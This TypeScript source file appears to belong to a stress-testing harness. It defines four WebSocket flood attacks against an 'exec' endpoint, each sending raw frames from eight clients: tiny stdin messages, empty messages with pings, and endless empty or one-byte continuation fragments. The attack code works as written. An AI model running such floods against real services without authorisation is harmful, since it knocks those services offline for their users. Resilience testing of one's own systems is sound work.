import { outcome, type Attack } from '../attack.js';
import { flood } from '../flood.js';
import { webSocketSession } from '../sessions.js';

const BATCH = 5_000;
const MASKED = 0x80;
const MASK = Buffer.alloc(4);

function frame(firstByte: number, payload: Buffer): Buffer {
  return Buffer.concat([Buffer.from([firstByte, MASKED | payload.length]), MASK, payload]);
}

const repeated = (bytes: Buffer): Buffer => Buffer.concat(Array.from({ length: BATCH }, () => bytes));

export const WEB_SOCKET_FLOODS: readonly Attack[] = [
  floodOf('WebSocket exec, 8 clients: messages of one byte to stdin', [
    repeated(frame(0x82, Buffer.from([0, 0x61]))),
  ]),
  floodOf('WebSocket exec, 8 clients: empty messages and pings', [
    repeated(Buffer.concat([frame(0x82, Buffer.from([0])), frame(0x89, Buffer.alloc(0))])),
  ]),
  floodOf('WebSocket exec, 8 clients: one message in fragments of nothing', [
    frame(0x02, Buffer.from([0])),
    repeated(frame(0x00, Buffer.alloc(0))),
  ]),
  floodOf('WebSocket exec, 8 clients: one message in fragments of one byte', [
    frame(0x02, Buffer.from([0])),
    repeated(frame(0x00, Buffer.from([0x61]))),
  ]),
];

/** The last of the parts is sent over and over. */
function floodOf(name: string, parts: readonly Buffer[]): Attack {
  return {
    name,
    async run(field, signal) {
      const sent = await Promise.all(
        Array.from({ length: 8 }, async () => {
          const socket = await webSocketSession(field);
          socket.resume();
          let turn = 0;
          const bytes = await flood(socket, () => parts[Math.min(turn++, parts.length - 1)], signal);
          socket.destroy();
          return bytes;
        }),
      );
      return outcome(`${(sent.reduce((sum, each) => sum + each, 0) / 2 ** 20).toFixed(1)} MiB sent`);
    },
  };
}
